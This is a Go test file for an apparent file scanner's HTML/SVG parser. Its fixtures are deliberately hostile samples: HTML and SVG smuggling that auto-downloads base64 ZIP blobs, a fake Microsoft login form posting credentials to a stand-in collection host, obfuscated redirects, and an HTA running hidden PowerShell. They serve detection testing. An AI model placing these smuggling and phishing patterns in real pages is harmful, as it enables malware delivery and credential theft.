package markup

import (
	"encoding/base64"
	"flag"
	"fmt"
	"strings"
	"testing"

	"foregate/scan/file/internal/sample"
	"foregate/scan/file/tree"
)

var _ = flag.Bool("update", false, "write the golden files")

func b64(s string) string { return base64.StdEncoding.EncodeToString([]byte(s)) }

func input(name, typ, text string) *tree.Input {
	in := sample.Input(name, []byte(text))
	in.Type = typ
	return in
}

func TestGolden(t *testing.T) {
	zip := "PK\x03\x04" + strings.Repeat("inert ", 30)
	for _, tt := range []struct{ name, file, typ, text string }{
		{"smuggling", "invite.html", "html", `<!DOCTYPE html><html><head><title>Shared file</title></head><body onload="go()"><p>Your document is ready</p>
<script>var d = "` + b64(zip) + `"; function go(){ var s = atob(d), n = s.length, b = new Uint8Array(n); while (n--) b[n] = s.charCodeAt(n);
var a = document.createElement("a"); a.href = URL.createObjectURL(new Blob([b], {type: "application/zip"})); a.download = "invite.zip"; a.click() }</script></body></html>`},
		{"hidden-element", "a.html", "html", `<html><body><div id="payload" style="display:none">` + b64(zip) + `</div><script>
var x = document.getElementById("payload").innerText; var u = URL.createObjectURL(new Blob([Uint8Array.from(atob(x), c => c.charCodeAt(0))])); var a = document.createElement('a'); a.href = u; a.download = "a.zip"; a.click()</script></body></html>`},
		{"login", "secure.htm", "html", `<html><head><title>Sign in to your account</title></head><body><h1>Microsoft</h1><form action="https://collect.example/p.php" method="post"><input type="email" name="l" value="victim@org.example"><input type="password" name="p"></form>
<script>$.ajax({url: atob("` + b64("https://second.example/post") + `"), type: "POST"});</script></body></html>`},
		{"redirect", "a.html", "html", `<html><head><meta http-equiv="refresh" content="0; URL='https://first.example/'"><script>var p = ["exam", "https:/", "/second.", "ple/"]; window.location.href = p[1] + p[2] + p[0] + p[3];</script></head></html>`},
		{"written", "a.html", "html", `<script>document.write(unescape("` + percent(`<form action="https://third.example/x"><input type=password></form><script>location="https://fourth.example/"</script>`) + `"))</script>`},
		{"srcdoc", "a.html", "html", `<iframe srcdoc="&lt;script&gt;location = 'https://' + 'framed.example/'&lt;/script&gt;"></iframe><a href="data:application/zip;base64,` + b64(zip) + `" download="report.zip">open</a><img src="data:image/png;base64,` + b64("\x89PNG\r\n\x1a\n") + `"><object data="data:text/html,<script>location='https://object.example/'</script>"></object>`},
		{"svg", "picture.svg", "svg", `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY go "&#108;ocation">]><svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><circle r="9"/>
<a xlink:href="https://linked.example/"><text>Open</text></a><foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><form action="https://form.example/"><input type="password"/></form></body></foreignObject>
<script type="application/ecmascript"><![CDATA[ window.location = "https://" + "svg.example/"; ]]></script><script>&go;.href = "https://entity.example/"</script></svg>`},
		{"svg-smuggling", "a.svg", "svg", `<svg xmlns="http://www.w3.org/2000/svg"><script>var b = new Blob([Uint8Array.from(atob("` + b64(zip) + `"), c =&gt; c.charCodeAt(0))]); var a = document.createElementNS("http://www.w3.org/1999/xhtml", "a"); a.href = URL.createObjectURL(b); a.download = "svg.zip"; a.click()</script></svg>`},
		{"hta", "a.hta", "hta", `<html><hta:application id=x><script language="VBScript">CreateObject("WScript.Shell").Run "calc"</script><script>new ActiveXObject("WScript.Shell").Run("powershell -w hidden " + "x")</script></html>`},
		{"maze", "a.html", "html", `<script>for (var i = 0; ; i++) { }</script><script>location = "https://after.example/"</script>`},
		{"plain", "news.html", "html", `<html><head><title>News</title><script>window.dataLayer = window.dataLayer || []; function gtag(){dataLayer.push(arguments)} gtag('js', new Date());</script></head><body><p>Nothing to see</p><a href="https://news.example/">More</a></body></html>`},
	} {
		t.Run(tt.name, func(t *testing.T) {
			sample.Golden(t, Parser{}, tt.name, input(tt.file, tt.typ, tt.text))
		})
	}
}

func percent(s string) string {
	var b strings.Builder
	for _, c := range []byte(s) {
		fmt.Fprintf(&b, "%%%02X", c)
	}
	return b.String()
}

func TestOpens(t *testing.T) {
	for _, tt := range []struct {
		name, typ, declared, text string
		want                      bool
	}{
		{"a.html", "", "", "  text before <b>markup</b>", true},
		{"a.txt", "", "text/html; charset=utf-8", "<b>x</b>", true},
		{"a.txt", "", "text/plain", "<b>x</b>", false},
		{"a.xml", "xml", "text/xml", "<a/>", false},
		{"a.svg", "xml", "image/svg+xml", "<a/>", true},
		{"a.pdf", "html", "application/pdf", "<html>", true},
	} {
		in := input(tt.name, tt.typ, tt.text)
		in.Declared = tt.declared
		if got := (Parser{}).Opens(in); got != tt.want {
			t.Errorf("%s of type %q, declared %q: opens %v", tt.name, tt.typ, tt.declared, got)
		}
	}
}

func FuzzOpen(f *testing.F) {
	f.Add([]byte(`<html><body onload="go()"><div id=x>aaaa</div><script>document.write("<b>" + x.innerText)</script><form action=a><input type=password></form>`), true)
	f.Add([]byte(`<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "b">]><svg xmlns:xlink="x"><script>&a;</script><a xlink:href="data:text/html,x"/></svg>`), false)
	f.Add([]byte("\xff\xfe<\x00s\x00c\x00r\x00i\x00p\x00t\x00>\x00"), true)
	f.Fuzz(func(t *testing.T, b []byte, page bool) {
		in := input("a.html", "html", string(b))
		if !page {
			in = input("a.svg", "svg", string(b))
		}
		budget := *in.Budget
		res, _ := Parser{}.Open(t.Context(), in)
		sum := int64(0)
		for _, c := range res.Children {
			sum += int64(len(c.Data))
		}
		if sum > budget.Bytes-in.Budget.Bytes {
			t.Fatalf("%d bytes came out, %d were charged", sum, budget.Bytes-in.Budget.Bytes)
		}
	})
}
